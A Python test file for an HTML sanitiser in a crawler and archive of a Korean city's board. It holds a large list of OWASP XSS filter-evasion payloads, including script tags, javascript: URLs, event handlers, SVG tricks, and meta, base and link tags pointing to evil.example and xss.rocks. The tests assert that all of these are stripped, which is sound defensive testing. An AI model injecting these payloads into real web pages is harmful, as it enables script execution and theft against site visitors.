"""body_html carries no active content: the allow-list sanitiser against the OWASP XSS filter
evasion cheat sheet, through the parser and on the stored string; and a version stored by an
older sanitiser leaves the archive clean through `show` and every dump format.

The output is checked by parsing it twice: with Python's `html.parser` (a tokenizer that follows
the HTML5 tokenization rules closely enough to see every start tag and attribute) and with
lxml.html (libxml2's tree). html5lib is not installed here.
"""

from __future__ import annotations

import json

import lxml.html
import pytest
from archive_fixtures import NIGHT_1, make_post, new_run
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy.orm import Session
from test_dump import FORMATS, keyed, read_dump

from archive import finish_run, make_engine, store_fetched, upgrade
from crawler.parsing import parse_view
from crawler.parsing.html import sanitised_html
from replica import hostile
from safehtml import sanitise
from sijeong.cli import cli

pytest_plugins = ["archive_fixtures"]

BASE = "http://127.0.0.1:1/boardView.do?boardId=BD_0000000022&seq=1"

# The OWASP XSS filter evasion cheat sheet, representative vectors, plus the ones the issue found.
VECTORS = [
    "<script>alert(1)</script>",
    '<SCRIPT SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="&#x01;javascript:alert(1)">ctl</a>',
    '<a href="java&#0;script:alert(1)">nul</a>',
    '<a href=" javascript:alert(1)">sp</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<style>@import'http://xss.rocks/xss.css';</style>",
    "<svg/onload=alert('XSS')>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<link rel="stylesheet" href="http://xss.rocks/xss.css">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<meta http-equiv="refresh" content="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="http://evil.example/">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">c</TD></TR></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">bg</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">expr</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<isindex action="javascript:alert(1)" type="image">',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<details open ontoggle="alert(1)">d</details>',
    '<video><source onerror="alert(1)"></video>',
    '<img src="http://ok.example/a.png" srcset="javascript:alert(1)">',
    '<a href="http://ok.example/" target="_blank" ping="http://evil.example/">ok</a>',
]
# What the board's bodies are made of (replica/render.py and the real pages).
BENIGN = [
    "광주광역시는 5일 행사를 열었다.",
    "<br>",
    "<p>첫 문단</p>",
    "<span>강조</span>",
    "<b>굵게</b> <strong>강하게</strong> <i>기울임</i> <u>밑줄</u> <em>강조</em>",
    '<div class="view_image"><img src="/imageView/abc" alt="사진" width="600" height="400">'
    '<div class="viewimg_comment"><small>사진 설명</small></div></div>',
    "<table><thead><tr><th>구분</th></tr></thead><tbody><tr><td colspan=2 rowspan=1>값</td></tr></tbody></table>",
    '<a href="/fileDownload.do?fileSe=BB&amp;fileSn=1">첨부</a>',
    "<ul><li>하나</li></ul><ol><li>둘</li></ol>",
    "<h3>소제목</h3>",
    "&lt;끝&gt;",
]
OPENERS = ["p", "div", "span", "td", "b", "a href=/x", "h2", "li"]


def active_content(html: str) -> list[str]:
    """Everything in `html` that could run or load something (the chaos campaign's judge, two
    parsers), and any URL left relative: the sanitiser makes every URL it keeps absolute."""
    found = hostile.active_content(html)
    tree = lxml.html.fragment_fromstring(html, create_parent="div") if html.strip() else None
    for el in tree.iter() if tree is not None else ():
        for name, value in el.attrib.items():
            if name in hostile.URL_ATTRS and hostile.url_scheme(value) is None:
                found.append(f"{el.tag} {name}={value!r} (relative)")
    return found


def parsed(body: str):
    """`body` as the body element of a page, parsed from bytes as the crawler parses pages."""
    return lxml.html.document_fromstring(f"<html><body>{body}".encode()).body


def via_parser(body: str) -> str:
    """body_html as the crawler stores it: the body element of a page, parsed and sanitised."""
    return sanitised_html(parsed(body), BASE)


def via_stored_string(body: str) -> str:
    """body_html as show and dump re-sanitise a stored string."""
    return sanitise(body, BASE)


# -- the vectors the issue found, each on its own --------------------------------------------------


@pytest.mark.parametrize(
    ("vector", "body_html"),
    [
        ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "<div><p>본문</p></div>"),
        (
            '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
            "<div><p>본문</p></div>",
        ),
        (
            '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
            "<div><p>본문</p></div>",
        ),
        ('<base href="http://evil.example/">', "<div><p>본문</p></div>"),
        ('<link rel="stylesheet" href="http://evil.example/x.css">', "<div><p>본문</p></div>"),
        # lxml's serialiser percent-escapes the control character: a harmless relative path
        (
            '<a href="&#x01;javascript:alert(1)">x</a>',
            '<div><p>본문</p><a href="http://127.0.0.1:1/%01javascript:alert(1)"'
            ' rel="noopener noreferrer">x</a></div>',
        ),
    ],
)
def test_the_vectors_the_issue_found_leave_nothing_active(vector, body_html):
    page = (
        '<html><body><div class="board_view"><div class="board_view_head"><h6>t</h6></div>'
        '<div class="board_view_info"><span>작성일 : 2025-01-02 03:04</span><span>5</span></div>'
        f'<div class="board_view_body"><p>본문</p>{vector}</div></div></body></html>'
    ).encode()
    post = parse_view(page, BASE)
    assert post.body_html == body_html
    assert active_content(post.body_html) == []


@pytest.mark.parametrize(
    "vector",
    ['<a href="&#x01;javascript:alert(1)">x</a>', '<a href="\x01 javascript:alert(1)">x</a>'],
)
def test_a_control_character_before_a_script_url_drops_the_url(vector):
    assert sanitise(vector, BASE) == '<a rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("clean", [via_parser, via_stored_string])
def test_each_owasp_vector_alone_leaves_nothing_active(clean, vector):
    assert active_content(clean(f"<p>앞</p>{vector}<p>뒤</p>")) == []


# -- generated bodies mixing board markup and the vectors -------------------------------------------

_pieces = st.one_of(
    st.sampled_from(BENIGN),
    st.sampled_from(VECTORS),
    st.text(alphabet="가나 <>&\"'=/:;\x01\t\nabcjJavascript", max_size=12),
)


@st.composite
def bodies(draw) -> str:
    parts = draw(st.lists(_pieces, min_size=1, max_size=8))
    html = ""
    for part in parts:
        if draw(st.booleans()):
            opener = draw(st.sampled_from(OPENERS))
            closer = f"</{opener.split()[0]}>" if draw(st.booleans()) else ""
            part = f"<{opener}>{part}{closer}"
        html += part
    return html


@settings(
    max_examples=400, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(bodies(), st.sampled_from([via_parser, via_stored_string]))
def test_generated_bodies_with_owasp_vectors_leave_nothing_active(body, clean):
    assert active_content(clean(body)) == []


@settings(max_examples=200, deadline=None, derandomize=True)
@given(bodies())
@example('광주<h2>광주<a href=/x>광주<h2><a href="/fileDownload.do?fileSn=1">첨부</a>')
def test_sanitising_again_keeps_the_text_and_settles(body):
    """Output re-sanitises what the crawler stored: that keeps every word. (Not always the same
    bytes: html5ever re-nests what it serialised from misnested input, e.g. an h2 inside an h2,
    found by this property; the second pass is then a fixed point.)"""
    once = sanitise(body, BASE)
    twice = sanitise(once, BASE)
    assert text_of(twice) == text_of(once)
    assert sanitise(twice, BASE) == twice


def text_of(html: str) -> str:
    return "".join(lxml.html.fragment_fromstring(html or "<p></p>", create_parent="div").itertext())


# -- what the board's bodies keep --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ('<p class="x" style="color:red">문단</p>', "<p>문단</p>"),
        (
            '<img src="/imageView/a" alt="사진" width="600" height="400" class="baseImg">',
            '<img src="http://127.0.0.1:1/imageView/a" alt="사진" width="600" height="400">',
        ),
        (
            '<a href="fileDownload.do?fileSn=1" title="t">첨부</a>',
            '<a href="http://127.0.0.1:1/fileDownload.do?fileSn=1" rel="noopener noreferrer">첨부</a>',
        ),
        (
            "<table><tr><td colspan=2 rowspan=3 width=5>칸</td></tr></table>",
            '<table><tbody><tr><td colspan="2" rowspan="3">칸</td></tr></tbody></table>',
        ),
        ('<a href="mailto:a@example.com">메일</a>', '<a rel="noopener noreferrer">메일</a>'),
        ("줄<br>바꿈 &lt;끝&gt;<!-- 주석 -->", "줄<br>바꿈 &lt;끝&gt;"),
        ("<h1>a</h1><h6>b</h6><ul><li>c</li></ul>", "<h1>a</h1><h6>b</h6><ul><li>c</li></ul>"),
        ("<iframe src='http://127.0.0.1:1/x'>안</iframe><font>밖</font>", "밖"),
    ],
)
def test_board_markup_kept_and_everything_else_dropped(body, expected):
    assert sanitise(body, BASE) == expected


# -- a version stored before this sanitiser leaves the archive clean ---------------------------------

STORED = (
    '<p onclick="x()">본문</p>'
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>'
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">'
    '<base href="http://evil.example/">'
    '<link rel="stylesheet" href="http://evil.example/x.css">'
    '<a href="\x01javascript:alert(1)">ctl</a>'
    "<script>alert(1)</script><style>p{}</style><iframe src=//evil.example></iframe>"
    '<img src="javascript:alert(1)" onerror="alert(1)" alt="사진">'
    '<a href="/fileDownload.do?fileSn=1">첨부</a>'
)
SERVED = (
    '<p>본문</p><a rel="noopener noreferrer">ctl</a><img alt="사진">'
    '<a href="https://www.gwangju.go.kr/fileDownload.do?fileSn=1" rel="noopener noreferrer">첨부</a>'
)


@pytest.fixture
def old_archive(db_url) -> str:
    """An archive holding one version whose body_html no sanitiser cleaned (as old code kept
    the five vectors the issue found)."""
    upgrade(db_url)
    engine = make_engine(db_url)
    with Session(engine) as session:
        run = new_run(session)
        store_fetched(session, make_post(1, body_html=STORED), run_id=run, fetched_at=NIGHT_1)
        finish_run(session, run, finished_at=NIGHT_1, status="ok", exit_code=0)
    engine.dispose()
    return db_url


@pytest.mark.parametrize("as_of", [[], ["--as-of", "2025-12-31"]])
def test_show_json_serves_a_stored_hostile_body_sanitised(old_archive, as_of):
    args = ["show", "BD_0000000022:1", "--db", old_archive, "--format", "json", *as_of]
    result = CliRunner().invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["body_html"] == SERVED


def test_every_dump_format_carries_a_stored_hostile_body_sanitised(old_archive, tmp_path):
    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli, ["dump", str(out), "--db", old_archive], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    for fmt in FORMATS:
        version = keyed(read_dump(out / f"versions.{fmt}"), "versions")[("BD_0000000022", 1, 1)]
        assert (fmt, version["body_html"]) == (fmt, SERVED)
        raw = (out / f"versions.{fmt}").read_bytes()
        assert b"javascript" not in raw and b"evil.example" not in raw, fmt
